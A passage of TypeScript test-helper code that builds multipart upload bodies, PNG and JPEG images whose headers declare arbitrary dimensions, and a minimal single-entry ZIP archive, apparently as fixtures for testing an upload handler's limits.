  return { body: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${BOUNDARY}` };
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A valid-looking RGB PNG whose IHDR declares width x height, with a few rows of compressed zeros. */
function pngDeclaring(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // colour type RGB
  const rows = deflateSync(Buffer.alloc((1 + width * 3) * 8), { level: 9 });
  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', ihdr), pngChunk('IDAT', rows), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A small real JPEG whose SOF marker is rewritten to declare width x height. */
async function jpegDeclaring(width: number, height: number): Promise<Buffer> {
  const jpeg = Buffer.from(await sharp({ create: { width: 16, height: 16, channels: 3, background: '#888' } }).jpeg().toBuffer());
  for (let i = 2; i + 9 < jpeg.length; ) {
    if (jpeg[i] !== 0xff) throw new Error('unexpected JPEG layout');
    const marker = jpeg[i + 1] ?? 0;
    if (marker >= 0xc0 && marker <= 0xc2) {
      jpeg.writeUInt16BE(height, i + 5);
      jpeg.writeUInt16BE(width, i + 7);
      return jpeg;
    }
    i += 2 + jpeg.readUInt16BE(i + 2);
  }
  throw new Error('no SOF marker found');
}

/** A one-entry stored (uncompressed) ZIP archive. */
function zipArchive(name: string, content: Buffer): Buffer {
  const fileName = Buffer.from(name, 'utf8');
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const centralOffset = local.length + fileName.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, fileName, content, central, fileName, end]);
}
